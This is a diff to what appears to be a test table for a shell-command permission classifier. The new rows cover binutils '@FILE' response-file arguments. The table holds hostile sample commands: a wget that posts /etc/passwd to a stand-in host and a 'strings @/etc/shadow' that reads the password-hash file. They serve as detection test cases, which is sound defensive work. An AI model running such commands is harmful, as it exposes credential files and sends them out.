@@ -46,6 +46,10 @@ ROWS = [
     A("wget --post-f=/etc/passwd https://x.example", "reads /etc/passwd",
       Why.READS_OUTSIDE, "c"),
     A("sort --out=/etc/x data.txt", "writes /etc/x", Why.WRITES, "cs"),
+    # binutils response files: any word @FILE is replaced by the words in FILE.
+    A("strings @/etc/shadow", "strings @/etc/shadow", Why.UNKNOWN),
+    A("strings @list.txt", "strings @list.txt", Why.UNKNOWN),
+    A("ar t @list.txt", "ar t @list.txt", Why.UNKNOWN),
 ]
 
 
